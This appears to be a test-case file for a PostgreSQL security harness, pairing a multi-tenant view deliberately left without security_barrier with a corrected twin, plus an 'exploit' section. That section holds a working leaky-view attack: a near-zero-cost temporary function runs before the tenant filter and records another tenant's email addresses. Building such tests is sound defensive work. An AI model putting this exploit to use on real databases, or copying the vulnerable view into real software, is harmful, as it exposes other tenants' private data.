-- The view filters by the tenant itself, but a cheap function of the caller's is asked before the filter is.
-- object: shop_data.my_customers
-- base: third_hibernate
--- setup
ANALYZE shop_data.customer;
--- leak
RESET ROLE;
CREATE VIEW shop_data.my_customers AS SELECT id, mail FROM shop_data.customer WHERE tenant_identifier::text = current_setting('hibernate.tenant');
GRANT SELECT ON shop_data.my_customers TO {spring};
--- twin
RESET ROLE;
CREATE VIEW shop_data.my_customers WITH (security_barrier) AS SELECT id, mail FROM shop_data.customer WHERE tenant_identifier::text = current_setting('hibernate.tenant');
GRANT SELECT ON shop_data.my_customers TO {spring};
--- exploit
CREATE FUNCTION pg_temp.peek(text) RETURNS boolean LANGUAGE plpgsql COST 0.00001 AS $$
BEGIN
    IF $1 LIKE '%two.test' THEN PERFORM set_config('peek.seen', $1, true); END IF;
    RETURN true;
END $$;
SELECT mail FROM shop_data.my_customers WHERE pg_temp.peek(mail);
SELECT 1 WHERE current_setting('peek.seen', true) LIKE '%two.test';
